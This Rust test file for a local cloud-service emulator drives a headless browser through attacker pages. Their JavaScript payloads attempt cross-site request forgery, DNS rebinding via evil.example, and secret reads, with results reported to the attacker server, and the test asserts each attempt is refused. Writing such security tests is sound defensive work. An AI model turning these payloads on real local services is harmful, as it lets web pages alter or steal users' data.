//! What web pages can do to the local target through a real browser: a page of an attacker tries everything a page can send,
//! and nothing is different afterwards. Each page tells the attacker's own server how its attempts went, so that a page that
//! never ran fails its test.

use std::collections::BTreeMap;
use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::{Arc, Condvar, Mutex};
use std::time::{Duration, Instant};

use aws_sdk_s3::presigning::PresigningConfig;
use serde_json::{Value, json};
use tempfile::TempDir;

use crate::support::{Project, Served, administrator};

const REGION: &str = "us-west-2";

/// The browser: what `BEDPLATE_TEST_CHROMIUM` names, or one on `PATH`.
fn chromium() -> PathBuf {
    if let Some(named) = std::env::var_os("BEDPLATE_TEST_CHROMIUM") {
        return named.into();
    }
    let path = std::env::var_os("PATH").unwrap_or_default();
    let names = ["chromium", "chromium-browser", "google-chrome"];
    let found =
        std::env::split_paths(&path).flat_map(|dir| names.map(|name| dir.join(name))).find(|path| path.is_file());
    found.expect(
        "a Chromium: none is on PATH; `scripts/chromium` installs one, `scripts/test` sets BEDPLATE_TEST_CHROMIUM",
    )
}

/// The browser with a profile of its own, about to open a page as somebody who types its address.
fn browser(profile: &TempDir, more: &[&str], url: &str) -> Command {
    let mut command = Command::new(chromium());
    command
        .args(["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"])
        .args(["--disable-background-networking", "--disable-component-update", "--disable-sync"])
        .args(["--disable-dev-shm-usage", "--no-proxy-server"])
        .arg("--host-resolver-rules=MAP evil.example 127.0.0.1")
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .args(more)
        .arg(url)
        .stderr(Stdio::null());
    command
}

/// How long a browser is given.
const PATIENCE: Duration = Duration::from_secs(120);

/// Opens a page, and gives the document that is there in the end.
fn shown(url: &str) -> String {
    let profile = tempfile::tempdir().expect("a folder");
    let more = ["--virtual-time-budget=20000", "--dump-dom"];
    let mut child = browser(&profile, &more, url).stdout(Stdio::piped()).spawn().expect("the browser starts");
    let mut stdout = child.stdout.take().expect("a pipe");
    let (sender, document) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let mut text = Vec::new();
        let _ = stdout.read_to_end(&mut text);
        let _ = sender.send(String::from_utf8_lossy(&text).into_owned());
    });
    let document = document.recv_timeout(PATIENCE);
    let _ = child.kill();
    let _ = child.wait();
    document.unwrap_or_else(|_| panic!("the browser did not end: {url}"))
}

/// An attacker's web server: its pages, and what they told it.
#[derive(Default)]
struct Site {
    pages: BTreeMap<String, String>,
    told: BTreeMap<String, Value>,
    /// Where redirections lead.
    target: String,
}

struct Attacker {
    port: u16,
    site: Arc<Mutex<Site>>,
    /// Something was told.
    heard: Arc<Condvar>,
}

impl Attacker {
    fn new() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
        let port = listener.local_addr().expect("an address").port();
        let site = Arc::new(Mutex::new(Site::default()));
        let heard = Arc::new(Condvar::new());
        let shared = (Arc::clone(&site), Arc::clone(&heard));
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let (site, heard) = shared.clone();
                std::thread::spawn(move || serve(stream, &site, &heard));
            }
        });
        Self { port, site, heard }
    }

    fn page(&self, path: &str, page: String) {
        self.site.lock().expect("no panic").pages.insert(path.to_owned(), page);
    }

    /// What a page told that ran before.
    fn told(&self, page: &str) -> Value {
        let site = self.site.lock().expect("no panic");
        site.told
            .get(page)
            .cloned()
            .unwrap_or_else(|| panic!("`{page}` did not run; these did: {:?}", site.told.keys()))
    }

    /// Opens a page, and gives what it tells under its name.
    fn visited(&self, page: &str, url: &str) -> Value {
        let profile = tempfile::tempdir().expect("a folder");
        let mut child = browser(&profile, &[], url).stdout(Stdio::null()).spawn().expect("the browser starts");
        let site = self.site.lock().expect("no panic");
        let waited = self.heard.wait_timeout_while(site, PATIENCE, |site| !site.told.contains_key(page));
        drop(waited.expect("no panic"));
        let _ = child.kill();
        let _ = child.wait();
        self.told(page)
    }
}

/// One request: a page, a log, or a redirection to whatever of the target.
fn serve(stream: TcpStream, site: &Mutex<Site>, heard: &Condvar) {
    let mut reader = BufReader::new(stream.try_clone().expect("a stream"));
    let mut line = String::new();
    let _ = reader.read_line(&mut line);
    let mut length = 0;
    loop {
        let mut header = String::new();
        if reader.read_line(&mut header).is_err() || header.trim().is_empty() {
            break;
        }
        if let Some((_, value)) = header.split_once(':').filter(|(name, _)| name.eq_ignore_ascii_case("content-length"))
        {
            length = value.trim().parse().unwrap_or(0);
        }
    }
    let mut body = vec![0; length];
    let _ = reader.read_exact(&mut body);
    let path = line.split(' ').nth(1).unwrap_or_default().to_owned();
    let mut site = site.lock().expect("no panic");
    let page = site.pages.get(path.split('?').next().unwrap_or_default()).cloned();
    let answer = if let Some(page) = path.strip_prefix("/log/") {
        let value = serde_json::from_slice(&body).unwrap_or(Value::Null);
        site.told.insert(page.to_owned(), value);
        heard.notify_all();
        "HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-length: 0\r\n".to_owned()
    } else if let Some((status, rest)) = path.strip_prefix("/redirect/").and_then(|rest| rest.split_once('/')) {
        format!("HTTP/1.1 {status} Elsewhere\r\nlocation: {}/{rest}\r\ncontent-length: 0\r\n", site.target)
    } else if let Some(page) = &page {
        format!("HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: {}\r\n", page.len())
    } else {
        "HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\n".to_owned()
    };
    drop(site);
    let mut stream = stream;
    let page = page.unwrap_or_default();
    let _ = stream.write_all(format!("{answer}connection: close\r\n\r\n{page}").as_bytes());
}

/// An endpoint with things in it that are worth an attack: buckets, a function, APIs.
struct Victim {
    _project: Project,
    served: Served,
    /// What an attack that runs code leaves behind.
    marker: PathBuf,
    _dir: TempDir,
    api: String,
    sockets: String,
}

fn code(marker: &Path) -> String {
    format!(
        "import cfnresponse, json\n\n\ndef run(event, context):\n    open({:?}, 'w').close()\n    if 'ResponseURL' in event:\n        \
         cfnresponse.send(event, context, cfnresponse.SUCCESS, {{}})\n    return {{}}\n",
        marker.display().to_string()
    )
}

/// Functions of an API: a word, and a page whose scripts run at the endpoint's own address.
const API: &str = r#"import base64


def run(event, context):
    if event["rawPath"].endswith("/page"):
        page = base64.b64decode("PAGE").decode()
        return {"statusCode": 200, "headers": {"content-type": "text/html"}, "body": page}
    return {"statusCode": 200, "headers": {"content-type": "text/plain"}, "body": "hello"}
"#;

/// A stack that runs its function as it is made.
fn running(marker: &Path) -> Value {
    json!({ "Resources": {
        "Role": role(),
        "Function": function(&code(marker)),
        "Custom": { "Type": "Custom::Run", "Properties": { "ServiceToken": { "Fn::GetAtt": ["Function", "Arn"] } } },
    }})
}

fn role() -> Value {
    json!({ "Type": "AWS::IAM::Role", "Properties": { "AssumeRolePolicyDocument": { "Statement": [{
        "Effect": "Allow", "Principal": { "Service": "lambda.amazonaws.com" }, "Action": "sts:AssumeRole" }] } } })
}

fn function(code: &str) -> Value {
    json!({ "Type": "AWS::Lambda::Function", "Properties": { "Runtime": "python3.13", "Handler": "index.run",
        "Role": { "Fn::GetAtt": ["Role", "Arn"] }, "Code": { "ZipFile": code } } })
}

fn v2(kind: &str, mut properties: Value) -> Value {
    properties["ApiId"] = json!({ "Ref": if properties.get("Socket").is_some() { "Sockets" } else { "Api" } });
    if let Some(properties) = properties.as_object_mut() {
        properties.remove("Socket");
    }
    json!({ "Type": format!("AWS::ApiGatewayV2::{kind}"), "Properties": properties })
}

/// The things of the victim.
fn things(marker: &Path, page: &str) -> Value {
    use base64::Engine as _;
    let page = base64::engine::general_purpose::STANDARD.encode(page);
    let at = |name: &str| json!({ "Fn::Join": ["/", ["integrations", { "Ref": name }]] });
    let mut greet = function(&API.replace("PAGE", &page));
    greet["Properties"]["FunctionName"] = json!("greet");
    let mut draw = function(&code(marker));
    draw["Properties"]["FunctionName"] = json!("draw");
    let people = json!({ "Type": "AWS::IAM::Role", "Properties": { "RoleName": "people",
        "AssumeRolePolicyDocument": { "Statement": [{
            "Effect": "Allow", "Principal": { "AWS": "123456789012" }, "Action": "sts:AssumeRole" }] },
        "Policies": [{ "PolicyName": "read", "PolicyDocument": { "Statement": [{
            "Effect": "Allow", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::private/*" }] } }] } });
    json!({
        "Resources": {
            "Role": role(), "Greet": greet, "Draw": draw, "People": people,
            "Bucket": { "Type": "AWS::S3::Bucket", "Properties": { "BucketName": "private" } },
            "Api": { "Type": "AWS::ApiGatewayV2::Api", "Properties": { "Name": "api", "ProtocolType": "HTTP",
                "CorsConfiguration": { "AllowOrigins": ["*"], "AllowMethods": ["*"],
                "AllowHeaders": ["authorization", "content-type", "x-own"] } } },
            "May": { "Type": "AWS::Lambda::Permission", "Properties": { "FunctionName": { "Ref": "Greet" },
                "Action": "lambda:InvokeFunction", "Principal": "apigateway.amazonaws.com" } },
            "ToGreet": v2("Integration", json!({ "IntegrationType": "AWS_PROXY", "PayloadFormatVersion": "2.0",
                "IntegrationUri": { "Fn::GetAtt": ["Greet", "Arn"] } })),
            "Open": v2("Route", json!({ "RouteKey": "ANY /{proxy+}", "Target": at("ToGreet") })),
            "Owned": v2("Route", json!({ "RouteKey": "POST /owned", "AuthorizationType": "AWS_IAM", "Target": at("ToGreet") })),
            "Stage": v2("Stage", json!({ "StageName": "$default", "AutoDeploy": true })),
            "Sockets": { "Type": "AWS::ApiGatewayV2::Api", "Properties": { "Name": "sockets", "ProtocolType": "WEBSOCKET",
                "RouteSelectionExpression": "$request.body.action" } },
            "Nothing": v2("Integration", json!({ "Socket": 1, "IntegrationType": "MOCK" })),
            "Connect": v2("Route", json!({ "Socket": 1, "RouteKey": "$connect", "Target": at("Nothing") })),
            "SocketStage": { "Type": "AWS::ApiGatewayV2::Stage", "DependsOn": "Connect", "Properties": {
                "ApiId": { "Ref": "Sockets" }, "StageName": "dev", "AutoDeploy": true } },
        },
        "Outputs": { "Api": { "Value": { "Ref": "Api" } }, "Sockets": { "Value": { "Ref": "Sockets" } } },
    })
}

fn encoded(text: &str) -> String {
    form_urlencoded::byte_serialize(text.as_bytes()).collect()
}

fn create(name: &str, template: &Value) -> String {
    format!(
        "Action=CreateStack&Version=2010-05-15&StackName={name}&Capabilities.member.1=CAPABILITY_NAMED_IAM&TemplateBody={}",
        encoded(&template.to_string())
    )
}

impl Victim {
    fn new(dir: TempDir, marker: PathBuf, page: &str) -> Self {
        let project = Project::empty();
        project.write("bedplate.yaml", "");
        let served = project.serve(&[]);
        served.act(REGION, "cloudformation", &create("things", &things(&marker, page)));
        let told = settled(&served, "things");
        let output = |key: &str| {
            let (_, rest) = told.split_once(&format!("<OutputKey>{key}</OutputKey>")).expect("an output");
            let (_, rest) = rest.split_once("<OutputValue>").expect("a value");
            rest.split('<').next().expect("a value").to_owned()
        };
        let api = format!("{}/_aws/execute-api/{}", served.url, output("Api"));
        let sockets = format!("{}/_aws/execute-api/{}/dev", served.url.replacen("http", "ws", 1), output("Sockets"));
        let victim = Self { _project: project, served, marker, _dir: dir, api, sockets };
        victim.put("secret.txt", "text/plain", b"the secret");
        victim.put("secret.js", "text/javascript", b"window.stolen = 'the secret';");
        victim.put("secret.css", "text/css", b"body { --stolen: 1; }");
        victim.put("dot.png", "image/png", PNG);
        victim.put("page.html", "text/html", STORED.as_bytes());
        // What is tried below does run when it is let in.
        victim.served.act(REGION, "cloudformation", &create("control", &running(&victim.marker)));
        settled(&victim.served, "control");
        assert!(victim.marker.exists(), "an attack that gets through would be seen");
        std::fs::remove_file(&victim.marker).expect("removed");
        victim
    }

    fn put(&self, key: &str, media: &str, body: &[u8]) {
        let signature = administrator(REGION, "s3");
        let headers = [("authorization", signature.as_str()), ("content-type", media)];
        let (status, _, answer) = self.served.send(&format!("PUT /private/{key}"), &headers, body);
        assert_eq!(status, 200, "{answer}");
    }

    /// Everything there is, as far as plain reads tell it.
    fn state(&self) -> String {
        let served = &self.served;
        let act = |form: &str| served.act(REGION, "cloudformation", &format!("{form}&Version=2010-05-15"));
        let ask = |service: &str, target: &str| served.ask(REGION, service, target, &json!({})).to_string();
        let get = |service: &str, path: &str| {
            let signature = administrator(REGION, service);
            let (status, _, body) = served.send(&format!("GET {path}"), &[("authorization", &signature)], b"");
            assert_eq!(status, 200, "{path}: {body}");
            body
        };
        let all = [
            act("Action=DescribeStacks"),
            act("Action=ListStacks"),
            get("s3", "/"),
            get("s3", "/private?list-type=2"),
            get("s3", "/private?uploads"),
            get("lambda", "/2015-03-31/functions/"),
            ask("dynamodb", "DynamoDB_20120810.ListTables"),
            ask("secretsmanager", "secretsmanager.ListSecrets"),
            ask("ssm", "AmazonSSM.DescribeParameters"),
        ];
        let own = regex::Regex::new("<RequestId>[^<]*</RequestId>").expect("a pattern");
        own.replace_all(&all.join("\n"), "").into_owned()
    }

    /// Nothing is different, and nothing ran.
    fn unharmed(&self, before: &str, after_what: &str) {
        assert_eq!(self.state(), before, "{after_what}");
        assert!(!self.marker.exists(), "code ran: {after_what}");
    }
}

fn settled(served: &Served, name: &str) -> String {
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let form = format!("Action=DescribeStacks&Version=2010-05-15&StackName={name}");
        let told = served.act(REGION, "cloudformation", &form);
        if told.contains("<StackStatus>CREATE_COMPLETE</StackStatus>") {
            return told;
        }
        assert!(told.contains("CREATE_IN_PROGRESS") && Instant::now() < deadline, "{told}");
        std::thread::yield_now();
    }
}

/// A picture of one pixel.
const PNG: &[u8] = &[
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0x00, 0x00, 0x00,
    0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1f, 0x15, 0xc4, 0x89, 0x00, 0x00, 0x00, 0x0d, 0x49,
    0x44, 0x41, 0x54, 0x78, 0x9c, 0x63, 0x00, 0x01, 0x00, 0x00, 0x05, 0x00, 0x01, 0x0d, 0x0a, 0x2d, 0xb4, 0x00, 0x00,
    0x00, 0x00, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82,
];

/// A page in a bucket: its script would speak for the endpoint's own address.
const STORED: &str = "<!doctype html><title>stored</title><p>stored text<p id=ran>quiet\
    <script>document.getElementById('ran').textContent = 'script' + ' ran'</script>";

/// What pages have in common: the names of things, and telling how attempts went.
const COMMON: &str = r#"<!doctype html><body><script>
const T = "@@TARGET@@", FORM = decodeURIComponent("@@CREATE@@"), SIGNED = "@@SIGNATURE@@", results = {};
const within = (promise) => Promise.race([promise, new Promise((_, no) => setTimeout(() => no(new Error("late")), 4000))]);
async function attempt(name, what) {
  try { results[name] = String(await within(what())); } catch (error) { results[name] = error.message === "late" ? "late" : "error"; }
}
const tell = (page) => fetch("@@ATTACKER@@/log/" + page, { method: "POST", body: JSON.stringify(results) });
const load = (tag, at) => new Promise((yes) => {
  const element = document.createElement(tag);
  element.onload = () => yes("loaded " + (element.naturalWidth || 0));
  element.onerror = () => yes("error");
  Object.assign(element, at);
  document.body.append(element);
});
const framed = (at) => new Promise((yes) => {
  const frame = document.createElement("iframe");
  frame.name = "f" + Math.random();
  document.body.append(frame);
  const form = document.createElement("form");
  Object.assign(form, { target: frame.name, method: "POST" }, at);
  for (const [name, value] of new URLSearchParams(FORM)) {
    const field = document.createElement("input");
    Object.assign(field, { type: "hidden", name, value });
    form.append(field);
  }
  document.body.append(form);
  frame.onload = () => yes("answered");
  form.submit();
});
const socket = (url) => new Promise((yes) => {
  const one = new WebSocket(url);
  one.onopen = () => { yes("open"); one.close(); };
  one.onerror = () => yes("error");
});
"#;

/// Everything a page can send to another address.
const ATTACK: &str = r#"
(async () => {
  const text = { "content-type": "text/plain" };
  await attempt("image", () => load("img", { src: T + "/?" + FORM }));
  await attempt("image by redirect", () => load("img", { src: "/redirect/302/?" + FORM }));
  await attempt("script", () => load("script", { src: T + "/private/secret.js" }));
  await attempt("operations as script", () => load("script", { src: T + "/_bedplate/operations" }));
  await attempt("style", () => load("link", { rel: "stylesheet", href: T + "/private/secret.css" }));
  await attempt("picture", () => load("img", { src: T + "/private/dot.png" }));
  await attempt("frame", () => load("iframe", { src: T + "/?" + FORM }));
  await attempt("form", () => framed({ action: T + "/" }));
  await attempt("form in address", () => framed({ action: T + "/?" + FORM }));
  await attempt("form as text", () => framed({ action: T + "/", enctype: "text/plain" }));
  await attempt("form in parts", () => framed({ action: T + "/", enctype: "multipart/form-data" }));
  await attempt("upload", () => framed({ action: T + "/private", enctype: "multipart/form-data" }));
  await attempt("form by 307", () => framed({ action: "/redirect/307/" }));
  await attempt("form by 302", () => framed({ action: "/redirect/302/?" + FORM }));
  for (const mode of ["no-cors", "cors"]) {
    const post = (path, more) => fetch(T + path, { method: "POST", mode, ...more }).then((it) => it.type + it.status);
    await attempt(mode + " get", () => fetch(T + "/?" + FORM, { mode }).then((it) => it.type + it.status));
    await attempt(mode + " read", () => fetch(T + "/private/secret.txt", { mode }).then((it) => it.text()));
    await attempt(mode + " form", () => post("/", { body: new URLSearchParams(FORM) }));
    await attempt(mode + " text", () => post("/", { body: FORM, headers: text }));
    await attempt(mode + " untyped", () => post("/", { body: new Blob([FORM]) }));
    await attempt(mode + " parts", () => { const data = new FormData(); data.append("Action", "CreateStack"); return post("/", { body: data }); });
    await attempt(mode + " address", () => post("/?" + FORM));
    await attempt(mode + " invoke", () => post("/2015-03-31/functions/draw/invocations", { body: "{}", headers: text }));
    await attempt(mode + " signed address", () => post("@@SIGNEDPOST@@", { body: "", headers: text }));
    await attempt(mode + " redirect", () => fetch("/redirect/302/?" + FORM, { mode }).then((it) => it.type + it.status));
    await attempt(mode + " 307", () => fetch("/redirect/307/", { method: "POST", mode, body: new URLSearchParams(FORM) }).then((it) => it.type + it.status));
    await attempt(mode + " owned api", () => fetch("@@API@@/owned?@@SIGNEDQUERY@@", { method: "POST", mode, body: "" }).then((it) => it.type + it.status));
  }
  const asked = (more) => fetch(T + "/", { method: "POST", ...more }).then((it) => it.status);
  await attempt("signed", () => asked({ headers: { authorization: SIGNED, "content-type": "application/x-www-form-urlencoded" }, body: FORM }));
  await attempt("json", () => asked({ headers: { "x-amz-target": "AmazonSSM.PutParameter", "content-type": "application/x-amz-json-1.1", authorization: SIGNED }, body: "{}" }));
  await attempt("put", () => fetch(T + "/private/x", { method: "PUT", body: "x" }).then((it) => it.status));
  await attempt("delete", () => fetch(T + "/private/dot.png", { method: "DELETE" }).then((it) => it.status));
  await attempt("signed owned api", () => fetch("@@API@@/owned", { method: "POST", headers: { authorization: SIGNED } }).then((it) => it.status));
  await attempt("beacon", async () => navigator.sendBeacon(T + "/", new URLSearchParams(FORM)));
  await attempt("beacon as text", async () => navigator.sendBeacon(T + "/", FORM));
  await attempt("beacon to function", async () => navigator.sendBeacon(T + "/2015-03-31/functions/draw/invocations", "{}"));
  await attempt("socket", () => socket(T.replace("http", "ws") + "/"));
  await attempt("socket with action", () => socket(T.replace("http", "ws") + "/?" + FORM));
  await attempt("socket of an api", () => socket("@@SOCKETS@@"));
  await attempt("api", () => fetch("@@API@@/hello").then((it) => it.text()));
  await attempt("api with a preflight", () => fetch("@@API@@/hello", { method: "PUT", headers: { "x-own": "1" }, body: "{}" }).then((it) => it.text()));
  await attempt("given on", () => load("img", { src: "@@GIVENON@@" }));
  results.stolen = String(window.stolen) + getComputedStyle(document.body).getPropertyValue("--stolen");
  await tell("@@NAME@@");
})();
</script>"#;

/// What a page at the endpoint's own address adds: it need not ask before it sends anything.
const INSIDE: &str = r#"
(async () => {
  const asked = (path, more) => fetch(path, more).then((it) => it.status);
  const form = { authorization: SIGNED, "content-type": "application/x-www-form-urlencoded" };
  await attempt("signed", () => asked("/", { method: "POST", headers: form, body: FORM }));
  await attempt("json", () => asked("/", { method: "POST", headers: { "x-amz-target": "AmazonSSM.PutParameter", "content-type": "application/x-amz-json-1.1", authorization: SIGNED }, body: JSON.stringify({ Name: "/x", Value: "x", Type: "String" }) }));
  await attempt("put", () => asked("/private/x", { method: "PUT", headers: { authorization: SIGNED }, body: "x" }));
  await attempt("delete", () => asked("/private/dot.png", { method: "DELETE", headers: { authorization: SIGNED } }));
  await attempt("invoke", () => asked("/2015-03-31/functions/draw/invocations", { method: "POST", headers: { authorization: SIGNED }, body: "{}" }));
  await attempt("read", () => asked("/private/secret.txt"));
  await attempt("stored page", () => load("iframe", { src: "/private/page.html" }));
  await attempt("own api", () => asked("hello"));
  await tell("inside");
})();
</script>"#;

/// Pages that go to another address themselves once they have told that they ran, and how.
const GOING: &[(&str, &str)] = &[
    ("navigation", "location.href = T + '/?' + FORM;"),
    ("by-302", "location.href = '/redirect/302/?' + FORM;"),
    (
        "link",
        "const link = document.createElement('a'); link.href = T + '/private/secret.txt'; document.body.append(link); \
         link.click();",
    ),
    (
        "submission",
        "const form = document.createElement('form'); Object.assign(form, { method: 'POST', action: T + '/' }); \
         for (const [name, value] of new URLSearchParams(FORM)) { const field = document.createElement('input'); \
         Object.assign(field, { type: 'hidden', name, value }); form.append(field); } \
         document.body.append(form); form.submit();",
    ),
];

/// An address that is signed with the key and the secret that the documentation tells everybody.
fn signed_by_anybody(url: &str, method: &str, service: &str) -> String {
    use aws_sigv4::http_request::{SignableBody, SignableRequest, SignatureLocation, SigningSettings, sign};
    let credentials = aws_credential_types::Credentials::new("local", "local", None, None, "test");
    let identity = credentials.into();
    let mut settings = SigningSettings::default();
    settings.signature_location = SignatureLocation::QueryParams;
    settings.expires_in = Some(Duration::from_secs(600));
    let parameters = aws_sigv4::sign::v4::SigningParams::builder()
        .identity(&identity)
        .region(REGION)
        .name(service)
        .time(std::time::SystemTime::now())
        .settings(settings)
        .build()
        .expect("parameters");
    let host = url.trim_start_matches("http://").split('/').next().expect("a host");
    let request = SignableRequest::new(method, url, [("host", host)].into_iter(), SignableBody::UnsignedPayload)
        .expect("a request");
    let (instructions, _) = sign(request, &parameters.into()).expect("a signature").into_parts();
    let mut signed = http::Request::builder().method(method).uri(url).body(()).expect("a request");
    instructions.apply_to_request_http1x(&mut signed);
    signed.uri().to_string()
}

/// An address that a session of a role signed: made to be given on.
fn given_on(url: &str) -> String {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("a runtime");
    runtime.block_on(async {
        let administrator = aws_credential_types::Credentials::new("local", "local", None, None, "test");
        let sts = aws_sdk_sts::Config::builder()
            .behavior_version_latest()
            .region(aws_sdk_sts::config::Region::new(REGION))
            .credentials_provider(administrator)
            .endpoint_url(url)
            .build();
        let role = "arn:aws:iam::123456789012:role/people";
        let assumed =
            aws_sdk_sts::Client::from_conf(sts).assume_role().role_arn(role).role_session_name("me").send().await;
        let keys = assumed.expect("a session").credentials.expect("credentials");
        let token = Some(keys.session_token);
        let keys =
            aws_credential_types::Credentials::new(keys.access_key_id, keys.secret_access_key, token, None, "test");
        let s3 = aws_sdk_s3::Config::builder()
            .behavior_version_latest()
            .region(aws_sdk_s3::config::Region::new(REGION))
            .credentials_provider(keys)
            .force_path_style(true)
            .endpoint_url(url)
            .build();
        let minutes = PresigningConfig::expires_in(Duration::from_secs(600)).expect("ten minutes");
        let get =
            aws_sdk_s3::Client::from_conf(s3).get_object().bucket("private").key("dot.png").presigned(minutes).await;
        get.expect("an address").uri().to_owned()
    })
}

fn is_refused(results: &Value, name: &str, allowed: &[&str]) {
    let result = results[name].as_str().unwrap_or_else(|| panic!("`{name}` was not tried: {results}"));
    assert!(allowed.contains(&result), "`{name}` came to `{result}`");
}

#[test]
fn no_page_changes_reads_or_runs_anything_and_apis_are_for_pages() {
    let attacker = Attacker::new();
    let home = format!("http://127.0.0.1:{}", attacker.port);
    let dir = tempfile::tempdir().expect("a folder");
    let marker = dir.path().join("ran");
    let form = create("attack", &running(&marker));
    let signature = administrator(REGION, "cloudformation");
    let common = COMMON.replace("@@CREATE@@", &encoded(&form)).replace("@@SIGNATURE@@", &signature);
    let inside = format!("{common}{INSIDE}").replace("@@ATTACKER@@", &home).replace("@@TARGET@@", "");
    let victim = Victim::new(dir, marker, &inside);
    let url = victim.served.url.clone();
    let post = signed_by_anybody(&format!("{url}/private/x?uploads"), "POST", "s3");
    let owned = signed_by_anybody(&format!("{}/owned", victim.api), "POST", "execute-api");
    let common = common.replace("@@ATTACKER@@", "");
    let everything = format!("{common}{ATTACK}")
        .replace("@@SIGNEDPOST@@", post.strip_prefix(&url).expect("a path"))
        .replace("@@SIGNEDQUERY@@", owned.split_once('?').expect("a query").1)
        .replace("@@GIVENON@@", &given_on(&url))
        .replace("@@SOCKETS@@", &victim.sockets)
        .replace("@@API@@", &victim.api);
    for page in ["same-site", "cross-site"] {
        let filled = everything.replace("@@TARGET@@", &url).replace("@@NAME@@", page);
        attacker.page(&format!("/{page}"), filled);
    }
    let rebound = url.replace("127.0.0.1", "evil.example");
    attacker.page("/rebound", everything.replace("@@TARGET@@", &rebound).replace("@@NAME@@", "rebound"));
    for (name, how) in GOING {
        let page = format!("{common}\ntell(\"{name}\").then(() => {{ {how} }});\n</script>");
        attacker.page(&format!("/{name}"), page.replace("@@TARGET@@", &url));
    }
    attacker.site.lock().expect("no panic").target = url.clone();
    let before = victim.state();

    // Another port of this machine is the same site; another name of it is not; a foreign name may lead here, too.
    for (host, page) in [("127.0.0.1", "same-site"), ("localhost", "cross-site"), ("evil.example", "rebound")] {
        let results = attacker.visited(page, &format!("http://{host}:{}/{page}", attacker.port));
        victim.unharmed(&before, page);
        for name in ["script", "operations as script", "style", "image", "image by redirect", "picture"] {
            is_refused(&results, name, &["error"]);
        }
        for name in
            ["get", "form", "text", "untyped", "parts", "address", "invoke", "signed address", "redirect", "307"]
        {
            // Of an answer without CORS a page sees nothing, not even that it is a refusal.
            is_refused(&results, &format!("no-cors {name}"), &["opaque0"]);
            is_refused(&results, &format!("cors {name}"), &["error"]);
        }
        is_refused(&results, "no-cors read", &["", "error"]);
        is_refused(&results, "cors read", &["error"]);
        for name in ["signed", "json", "put", "delete", "socket", "socket with action"] {
            is_refused(&results, name, &["error"]);
        }
        is_refused(&results, "stolen", &["undefined"]);
        // A key that nobody verifies opens no method that asks for one; the answer has the API's CORS and may be read.
        is_refused(&results, "cors owned api", &["cors403"]);
        is_refused(&results, "signed owned api", &["403"]);
        assert_eq!(results["api"], json!("hello"), "{page}");
        assert_eq!(results["api with a preflight"], json!("hello"), "{page}");
        assert_eq!(results["socket of an api"], json!("open"), "{page}: {results}");
        assert_eq!(results["given on"], json!("loaded 1"), "{page}");
    }

    // Pages that go there themselves show the refusal.
    for (page, _) in GOING {
        let shown = shown(&format!("http://localhost:{}/{page}", attacker.port));
        attacker.told(page);
        assert!(shown.contains("AccessDenied") && !shown.contains("the secret"), "{page}: {shown}");
        victim.unharmed(&before, page);
    }

    // Somebody who types an address may read, and do nothing more.
    assert!(shown(&format!("{url}/private/secret.txt")).contains("the secret"));
    assert!(shown(&format!("{url}/?{form}")).contains("MethodNotAllowed"));
    let port = url.rsplit(':').next().expect("a port");
    let foreign = shown(&format!("http://evil.example:{port}/private/secret.txt"));
    assert!(foreign.contains("answers on loopback only") && !foreign.contains("the secret"), "{foreign}");
    let stored = shown(&format!("{url}/private/page.html"));
    assert!(stored.contains("stored text") && !stored.contains("script ran"), "{stored}");
    victim.unharmed(&before, "typed addresses");

    // A page that a stack's API serves is at the endpoint's own address.
    let results = attacker.visited("inside", &format!("{}/page", victim.api));
    for name in ["signed", "json", "put", "delete", "invoke", "read"] {
        is_refused(&results, name, &["403"]);
    }
    assert_eq!(results["own api"], json!("200"));
    victim.unharmed(&before, "a page of an API");
}
